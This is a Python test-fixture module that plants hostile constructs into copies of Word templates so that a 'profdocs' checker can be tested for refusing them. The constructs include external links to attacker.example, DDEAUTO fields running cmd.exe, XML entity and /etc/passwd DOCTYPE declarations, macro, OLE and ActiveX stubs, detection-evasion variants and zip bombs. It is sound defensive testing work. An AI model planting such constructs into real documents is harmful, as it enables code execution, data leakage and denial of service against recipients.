"""Hostile or broken packages, each planted into a copy of a real template.

Every case is a function from a template's bytes to the planted package, with the part it
must be refused for and a phrase of the Russian message: tests/test_hostile.py runs each
through `profdocs check` and `profdocs build`.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

R_DOC = "word/_rels/document.xml.rels"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
R_NS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def rewrite(
    src: bytes,
    edit: dict[str, bytes | None] | None = None,
    add: dict[str, bytes] | None = None,
    level: int = 6,
) -> bytes:
    """The package with parts replaced (None: removed) and parts added (level 0: stored)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(src)) as zin,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for info in zin.infolist():
            data = zin.read(info)
            if edit and info.filename in edit:
                new = edit[info.filename]
                if new is None:
                    continue
                data = new
            zout.writestr(info.filename, data)
        method = zipfile.ZIP_DEFLATED if level else zipfile.ZIP_STORED
        for name, data in (add or {}).items():
            zout.writestr(zipfile.ZipInfo(name), data, method, level or None)
    return out.getvalue()


def read(src: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(src)) as zf:
        return zf.read(name)


def _add_rel(src: bytes, rel: str, part: str = R_DOC) -> bytes:
    rels = read(src, part).replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    return rewrite(src, {part: rels})


def _body_start(src: bytes, xml: str) -> bytes:
    body = read(src, "word/document.xml").replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
    return rewrite(src, {"word/document.xml": body})


def external_image_unc(src: bytes) -> bytes:
    src = _body_start(
        src,
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        f'style="width:1pt;height:1pt"><v:imagedata {R_NS} r:id="rIdX1"/></v:shape>'
        "</w:pict></w:r></w:p>",
    )
    return _add_rel(
        src,
        f'<Relationship Id="rIdX1" Type="{RELS}image" '
        'Target="\\\\attacker.example\\share\\logo.png" TargetMode="External"/>',
    )


def external_template_http(src: bytes) -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
        '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        f'Id="rIdT" Type="{RELS}attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    settings = read(src, "word/settings.xml").replace(
        b"<w:zoom", f'<w:attachedTemplate {R_NS} r:id="rIdT"/><w:zoom'.encode(), 1
    )
    return rewrite(
        src, {"word/settings.xml": settings}, {"word/_rels/settings.xml.rels": rels.encode()}
    )


def external_hyperlink_file(src: bytes) -> bytes:
    return _add_rel(
        src,
        f'<Relationship Id="rIdX2" Type="{RELS}hyperlink" '
        'Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>',
    )


def external_mode_as_reference(src: bytes) -> bytes:
    """«External» written with a character reference: a byte search would not see it."""
    return _add_rel(
        src,
        f'<Relationship Id="rIdX3" Type="{RELS}image" Target="http://attacker.example/p.png" '
        'TargetMode="&#69;xternal"/>',
    )


def alt_chunk(src: bytes) -> bytes:
    body = read(src, "word/document.xml").replace(
        b"</w:body>", f'<w:altChunk {R_NS} r:id="rIdA"/></w:body>'.encode(), 1
    )
    src = rewrite(
        src,
        {"word/document.xml": body},
        {"word/chunk.mht": b"MIME-Version: 1.0\r\n\r\n<html>hi</html>"},
    )
    return _add_rel(src, f'<Relationship Id="rIdA" Type="{RELS}aFChunk" Target="chunk.mht"/>')


def alt_chunk_other_prefix(src: bytes) -> bytes:
    """The same element under another namespace prefix."""
    ns = 'xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    body = read(src, "word/document.xml").replace(
        b"</w:body>", f'<x:altChunk {ns} {R_NS} r:id="rIdA"/></w:body>'.encode(), 1
    )
    return rewrite(src, {"word/document.xml": body})


def macros(src: bytes) -> bytes:
    src = rewrite(src, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})
    return _add_rel(
        src,
        '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/>',
    )


def ole_object(src: bytes) -> bytes:
    src = _body_start(src, "<w:p><w:r><w:object/></w:r></w:p>")
    src = rewrite(src, add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})
    return _add_rel(
        src,
        f'<Relationship Id="rIdO" Type="{RELS}oleObject" Target="embeddings/oleObject1.bin"/>',
    )


def activex(src: bytes) -> bytes:
    src = rewrite(
        src,
        add={
            "word/activeX/activeX1.xml": b'<?xml version="1.0"?><ax:ocx '
            b'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
        },
    )
    return _add_rel(
        src, f'<Relationship Id="rIdC" Type="{RELS}control" Target="activeX/activeX1.xml"/>'
    )


def doctype_entity(src: bytes) -> bytes:
    decl = b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
    body = read(src, "word/document.xml").replace(b"?>", b"?>" + decl, 1)
    return rewrite(src, {"word/document.xml": body})


def doctype_utf16(src: bytes) -> bytes:
    """A declaration in a UTF-16 part, where a search for bytes would not find it."""
    styles = read(src, "word/styles.xml").decode("utf-8")
    styles = styles.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    styles = styles.replace("?>", '?><!DOCTYPE w:styles SYSTEM "file:///etc/passwd">', 1)
    return rewrite(src, {"word/styles.xml": styles.encode("utf-16")})


def dde_field(src: bytes) -> bytes:
    return _body_start(
        src,
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '&quot;/k calc&quot; "/></w:p>',
    )


def dde_field_split(src: bytes) -> bytes:
    """A complex field whose code Word saved in two runs: «DD» and «EAUTO …»."""
    return _body_start(
        src,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">EAUTO cmd "/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    )


def member_bomb(src: bytes) -> bytes:
    return rewrite(src, add={"word/media/pad.bin": b"\0" * (60 * 1024 * 1024)}, level=1)


def ratio_bomb(src: bytes) -> bytes:
    return rewrite(src, add={"customXml/item9.xml": b"<a>" + b" " * (8 * 1024 * 1024) + b"</a>"})


def total_bomb(src: bytes) -> bytes:
    """Seven parts of 9 MB: none is too large or compressed too well alone."""
    pads = {f"word/media/pad{i}.bin": random.Random(i).randbytes(9 * 2**20) for i in range(7)}
    return rewrite(src, add=pads, level=0)


@dataclass(frozen=True)
class Case:
    plant: Callable[[bytes], bytes]
    part: str  # the part the first refusal names
    phrase: str  # a phrase of its message


CASES: dict[str, Case] = {
    "external_image_unc": Case(external_image_unc, R_DOC, "внешняя ссылка (рисунок по ссылке)"),
    "external_template_http": Case(
        external_template_http,
        "word/_rels/settings.xml.rels",
        "внешняя ссылка (прикреплённый шаблон) на «http://attacker.example/t.dotm»",
    ),
    "external_hyperlink_file": Case(
        external_hyperlink_file, R_DOC, "внешняя ссылка (гиперссылка) на «file:///C:/Windows"
    ),
    "external_mode_as_reference": Case(external_mode_as_reference, R_DOC, "внешняя ссылка"),
    "alt_chunk": Case(alt_chunk, "word/document.xml", "фрагмент altChunk"),
    "alt_chunk_other_prefix": Case(alt_chunk_other_prefix, "word/document.xml", "altChunk"),
    "macros": Case(macros, "word/vbaProject.bin", "макросы VBA"),
    "ole_object": Case(ole_object, "word/document.xml", "объект OLE"),
    "activex": Case(activex, "word/activeX/activeX1.xml", "элемент ActiveX"),
    "doctype_entity": Case(doctype_entity, "word/document.xml", "DOCTYPE или ENTITY"),
    "doctype_utf16": Case(doctype_utf16, "word/styles.xml", "DOCTYPE или ENTITY"),
    "dde_field": Case(dde_field, "word/document.xml", "поле Word DDEAUTO"),
    "dde_field_split": Case(dde_field_split, "word/document.xml", "поле Word DDEAUTO"),
    "member_bomb": Case(member_bomb, "word/media/pad.bin", "больше чем в 50 МБ"),
    "ratio_bomb": Case(ratio_bomb, "customXml/item9.xml", "сжата в"),
    "total_bomb": Case(total_bomb, "word/media/pad5.bin", "больше чем в 50 МБ"),
}
